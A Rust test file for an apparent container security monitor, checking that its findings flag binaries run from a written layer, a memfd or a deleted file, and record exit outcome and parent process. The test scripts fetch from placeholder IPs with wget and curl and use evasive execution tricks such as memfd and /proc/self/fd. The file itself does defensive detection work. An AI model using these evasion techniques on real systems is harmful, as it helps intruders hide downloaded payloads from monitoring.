//! What a finding says beside its command line.

use crate::harness::{Container, Dir, program};

#[test]
fn root_an_exec_says_where_its_file_lies() {
    let cases: [(&str, &str, &[&str]); 4] = [
        ("image", "wget http://198.51.100.10/x", &[]),
        (
            "written",
            "cp /bin/busybox /usr/bin/wget; /usr/bin/wget http://198.51.100.10/x",
            &["upper_layer"],
        ),
        ("memory", "/bin/exec memfd /bin/busybox wget http://198.51.100.10/x", &["memfd"]),
        (
            // The shell's child inherits the open file, which has no name any more.
            "deleted",
            "cp /bin/busybox /tmp/wget; exec 3</tmp/wget; rm /tmp/wget
             /proc/self/fd/3 wget http://198.51.100.10/x",
            &["deleted", "upper_layer"],
        ),
    ];
    for (id, script, flags) in cases {
        check(id, script, flags);
    }
}

/// Runs a script in a container on an overlay; its finding must have these flags
/// of where a file can lie.
#[track_caller]
fn check(id: &str, script: &str, flags: &[&str]) {
    let dir = Dir::new();
    let container = Container::new(&dir, id).with(&program("exec"), "/bin/exec").overlay();
    let done = container.script(&format!("{script}; :")).run();
    let report = dir.report(id);
    let [finding] = &report.findings[..] else { panic!("{id}: {:?} {done}", report.findings) };
    let mut found: Vec<_> = finding.exec.flags.iter().map(String::as_str).collect();
    found.retain(|flag| ["memfd", "deleted", "upper_layer"].contains(flag));
    found.sort();
    // A memfd has no directory entry either: both names for it are right.
    if flags == ["memfd"] {
        found.retain(|flag| *flag != "deleted");
    }
    assert_eq!(found, flags, "{id}");
}

#[test]
fn root_a_finding_tells_how_the_tool_ended_and_who_started_it() {
    let dir = Dir::new();
    let script = "printf '#!/bin/sh\\nwget http://198.51.100.11/x; true\\n' >/tmp/install
        chmod +x /tmp/install; /tmp/install; :";
    Container::new(&dir, "outcome").script(script).run().expect_code(0);

    let report = dir.report("outcome");
    let refused = &report.findings[0];
    let outcome = refused.outcome.as_ref().unwrap();
    assert_eq!((outcome.exit_code, outcome.signal), (Some(1), None));
    assert!(outcome.duration_ms > 0.0 && outcome.duration_ms < 60_000.0, "{outcome:?}");
    let parents: Vec<_> = refused
        .ancestry
        .iter()
        .map(|a| a.argv.last().unwrap().escape_ascii().to_string())
        .collect();
    assert_eq!(parents[0], "/tmp/install", "{parents:?}");
    assert_eq!(refused.ancestry.last().unwrap().sequence, Some(1), "{parents:?}");
}

#[test]
fn root_a_tool_ended_by_a_signal_says_so() {
    let dir = Dir::new();
    let container = Container::new(&dir, "signal").with(&program("exec"), "/bin/curl");
    container.script("curl die http://198.51.100.12/; :").run().expect_code(0);
    let report = dir.report("signal");
    let outcome = report.findings[0].outcome.as_ref().unwrap();
    assert_eq!((outcome.exit_code, outcome.signal), (None, Some(9)));
}
